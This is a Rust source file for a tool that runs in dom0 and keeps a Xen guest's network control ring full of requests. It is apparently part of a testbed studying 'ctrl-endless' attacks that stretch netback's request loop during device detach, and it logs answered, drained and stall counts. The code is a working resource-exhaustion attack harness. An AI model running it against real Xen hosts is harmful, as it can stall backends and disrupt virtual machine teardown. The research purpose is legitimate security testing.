//! `evilfront ctrl-feed`: run in dom0 (not in a guest), it keeps a guest's control ring full
//! for the ctrl-endless attacks, so that a backend loop that only ends when the ring is empty
//! runs for as long as possible.
//!
//! Why from dom0: a backend drains a ring of 128 requests in well under a millisecond (about
//! 1.3 ms with a grant copy per request), so any pause of the feeder longer than that ends
//! such a loop. A feeder in the 1-vCPU guest pauses whenever the guest or Xen runs something
//! else. In dom0, testbed/scenarios/hostile.sh runs two of these, SCHED_FIFO: one spinning
//! (`--period-us 0`, the default) on the vCPU the backend's work is not on, with RT throttling
//! off and that vCPU alone on its pCPU; and one on the backend's own vCPU with a period of a
//! tick (4 ms), which refills when the spinning one's vCPU was taken away by the host while
//! the backend's ran (a much shorter period starves dom0's other tasks on that vCPU). Both
//! only ever move `req_prod` forward (compare-and-swap).
//!
//! It maps the guest's ring page through /dev/xen/gntdev (`ctrl-ring-ref` is granted to dom0,
//! writable, because dom0 is the backend) and publishes `req_prod = rsp_prod + ring size`
//! whenever the backend's `rsp_prod` has moved: never more than a ring ahead of the backend's
//! consumer, so no "impossible requests" check trips. The answered slots get fresh requests
//! first. It never notifies: a feeder in dom0 cannot signal the guest's end of the channel;
//! the guest kicks when `req_event` asks for it, and a backend loop that re-reads `req_prod`
//! before going idle keeps going on its own.
//!
//! usage: evilfront ctrl-feed --domid D --gref G [--mapping-gref G2] [--seconds S]
//!                            [--stop-file F] [--mark-file F] [--period-us P]
//! `--mapping-gref`: every request is a SET_HASH_MAPPING of 128 entries from that page (a
//! grant copy each) instead of GET_HASH_FLAGS. Ends after `--seconds` (default 150) or when
//! the stop file exists. When the mark file appears (dom0 creates it as the detach starts)
//! the feeder notes the count answered so far and from then on how long the backend keeps
//! answering. `--period-us`: the sleep between refills (0: spin).
//! Prints `FEED t=.. answered=..` once a second and one `FEED-RESULT key=value ...` line;
//! `drained` counts the refills that found the whole ring answered (the backend's loop may
//! have ended there), `max_batch` the most requests answered between two refills, `stalls`
//! the intervals over 1 ms between two clock reads (the vCPU was taken away).

use crate::attacks::Report;
use crate::front::ctrl_slot;
use crate::xen_dev::{Gntdev, GrantedPage};
use netif::wire::{
    CtrlRequest, SRING_REQ_PROD_OFFSET, SRING_RSP_PROD_OFFSET, XEN_NETIF_CTRL_RING_SIZE,
    XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING,
};
use std::path::Path;
use std::sync::atomic::Ordering;
use std::thread::sleep;
use std::time::{Duration, Instant};

struct FeedArgs {
    domid: u16,
    gref: u32,
    mapping_gref: Option<u32>,
    seconds: u64,
    stop_file: String,
    mark_file: String,
    period_us: u64,
}

/// Spinning, the clock is read once per this many refill checks.
const SPINS_PER_CLOCK: u64 = 256;
/// An interval between two clock reads longer than this is a stall (the vCPU was taken away,
/// or the sleep overshot): counted.
const STALL_US: u128 = 1000;
/// Entries of the hash mapping each SET_HASH_MAPPING request sets (the backend's maximum).
const MAPPING_ENTRIES: u32 = 128;

fn parse(args: &[String]) -> Result<FeedArgs, String> {
    let mut a = FeedArgs {
        domid: 0,
        gref: 0,
        mapping_gref: None,
        seconds: 150,
        stop_file: "/tmp/ctrl-feed.stop".into(),
        mark_file: "/tmp/ctrl-feed.mark".into(),
        period_us: 0,
    };
    let (mut domid, mut gref) = (None, None);
    let mut it = args.iter();
    while let Some(k) = it.next() {
        let v = it.next().ok_or(format!("{k} needs a value"))?;
        let num = |v: &str| v.parse::<u64>().map_err(|_| format!("{k}: not a number: {v}"));
        let gref_of = |v: &str| v.parse::<u32>().map_err(|_| format!("{k}: not a grant reference: {v}"));
        match k.as_str() {
            "--domid" => domid = Some(u16::try_from(num(v)?).map_err(|_| format!("--domid {v}: too large"))?),
            "--gref" => gref = Some(gref_of(v)?),
            "--mapping-gref" => a.mapping_gref = Some(gref_of(v)?),
            "--seconds" => a.seconds = num(v)?,
            "--stop-file" => a.stop_file = v.clone(),
            "--mark-file" => a.mark_file = v.clone(),
            "--period-us" => a.period_us = num(v)?,
            _ => return Err(format!("unknown option {k}")),
        }
    }
    a.domid = domid.ok_or("--domid is required")?;
    a.gref = gref.ok_or("--gref is required")?;
    Ok(a)
}

/// Runs the feeder; `args` are the words after `ctrl-feed`. Returns the process exit code.
pub fn main(args: &[String]) -> i32 {
    let a = match parse(args) {
        Ok(a) => a,
        Err(e) => {
            eprintln!("evilfront ctrl-feed: {e}");
            return 2;
        }
    };
    let mut r = Report::new("ctrl-feed");
    let mapped = Gntdev::open().map_err(|e| format!("open /dev/xen/gntdev: {e}")).and_then(|dev| {
        dev.map(a.domid, a.gref).map(|page| (dev, page)).map_err(|e| format!("map gref {}: {e}", a.gref))
    });
    match mapped {
        Err(e) => r.set("error", e),
        Ok((dev, page)) => {
            feed(&page, &a, &mut r);
            dev.unmap(page);
        }
    }
    println!("{}", r.line().replacen("EVIL-RESULT", "FEED-RESULT", 1));
    0
}

fn feed(page: &GrantedPage, a: &FeedArgs, r: &mut Report) {
    let req = |idx: u32| match a.mapping_gref {
        None => CtrlRequest { id: idx as u16, kind: XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, data: [0; 3] },
        Some(g) => {
            CtrlRequest { id: idx as u16, kind: XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING, data: [g, MAPPING_ENTRIES, 0] }
        }
    };
    let req_prod_word = page.word(SRING_REQ_PROD_OFFSET);
    let rsp_prod_word = page.word(SRING_RSP_PROD_OFFSET);
    let req_prod = req_prod_word.load(Ordering::SeqCst);
    let mut last_rsp = rsp_prod_word.load(Ordering::SeqCst);
    if req_prod.wrapping_sub(last_rsp) > XEN_NETIF_CTRL_RING_SIZE {
        r.set("error", format!("ring indices out of order: req_prod {req_prod} rsp_prod {last_rsp}"));
        return;
    }
    let _ = std::fs::remove_file(&a.stop_file);
    let _ = std::fs::remove_file(&a.mark_file);
    println!("FEED start req_prod={req_prod} rsp_prod={last_rsp} period_us={}", a.period_us);
    let t0 = Instant::now();
    let mut answered = 0u64;
    // Wakeups that found every published request answered: the backend drained the ring
    // between two of ours, and a loop that stops when the ring is empty may have ended.
    let (mut drained, mut drained_after_mark) = (0u64, 0u64);
    // The most requests answered between two wakeups, and the longest time between them.
    let (mut max_batch, mut max_batch_1s, mut max_interval_us) = (0u32, 0u32, 0u128);
    // (time the mark appeared, answered then), and the last time rsp_prod moved.
    let mut mark: Option<(Instant, u64)> = None;
    let mut last_progress = t0;
    let (mut now, mut prev, mut last_check, mut last_report) = (t0, t0, t0, t0);
    let (mut spins, mut stalls) = (0u64, 0u64);
    loop {
        let rsp = rsp_prod_word.load(Ordering::SeqCst);
        let batch = rsp.wrapping_sub(last_rsp);
        if batch != 0 {
            answered += u64::from(batch);
            last_rsp = rsp;
            last_progress = now;
            max_batch = max_batch.max(batch);
            max_batch_1s = max_batch_1s.max(batch);
            if rsp == req_prod_word.load(Ordering::SeqCst) {
                drained += 1;
                drained_after_mark += u64::from(mark.is_some());
            }
        }
        // Another feeder (on another vCPU) may publish too: req_prod only ever moves forward.
        let req_prod = req_prod_word.load(Ordering::SeqCst);
        let target = rsp.wrapping_add(XEN_NETIF_CTRL_RING_SIZE);
        let ahead = target.wrapping_sub(req_prod);
        if ahead != 0 && ahead <= XEN_NETIF_CTRL_RING_SIZE {
            // The answered slots are free again: fresh requests there (a slot's request
            // depends only on its index, so two feeders write the same), then publish.
            let mut i = req_prod;
            while i != target {
                page.write_obj(ctrl_slot(i), req(i));
                i = i.wrapping_add(1);
            }
            let _ = req_prod_word.compare_exchange(req_prod, target, Ordering::SeqCst, Ordering::SeqCst);
        }
        spins += 1;
        // The clock (a system call in a PV dom0) only now and then when spinning.
        if a.period_us == 0 && spins % SPINS_PER_CLOCK != 0 {
            continue;
        }
        now = Instant::now();
        let interval = now.duration_since(prev).as_micros();
        prev = now;
        max_interval_us = max_interval_us.max(interval);
        stalls += u64::from(interval > STALL_US);
        if now.duration_since(last_check) >= Duration::from_millis(10) {
            last_check = now;
            if now.duration_since(t0) >= Duration::from_secs(a.seconds) || Path::new(&a.stop_file).exists() {
                break;
            }
            if mark.is_none() && Path::new(&a.mark_file).exists() {
                mark = Some((now, answered));
                println!(
                    "FEED t={:.1} mark answered={answered} drained={drained}",
                    now.duration_since(t0).as_secs_f64()
                );
            }
        }
        if now.duration_since(last_report) >= Duration::from_secs(1) {
            last_report = now;
            println!(
                "FEED t={:.1} answered={answered} drained={drained} max_batch_1s={max_batch_1s} stalls={stalls}",
                now.duration_since(t0).as_secs_f64()
            );
            max_batch_1s = 0;
        }
        if a.period_us > 0 {
            sleep(Duration::from_micros(a.period_us));
        }
    }
    let end = Instant::now();
    r.set("answered", answered);
    r.set("drained", drained);
    r.set("max_batch", max_batch);
    r.set("max_interval_us", max_interval_us);
    r.set("stalls", stalls);
    r.set("seconds", format!("{:.1}", end.duration_since(t0).as_secs_f64()));
    r.set("last_progress_s", format!("{:.1}", last_progress.duration_since(t0).as_secs_f64()));
    match mark {
        Some((at, n)) => {
            r.set("answered_after_mark", answered - n);
            r.set("drained_after_mark", drained_after_mark);
            // How long the backend kept answering once the detach had started.
            let busy = last_progress.checked_duration_since(at).unwrap_or_default();
            r.set("answering_after_mark_s", format!("{:.1}", busy.as_secs_f64()));
            r.set("mark_to_end_s", format!("{:.1}", end.duration_since(at).as_secs_f64()));
        }
        None => r.set("answered_after_mark", "none"),
    }
}
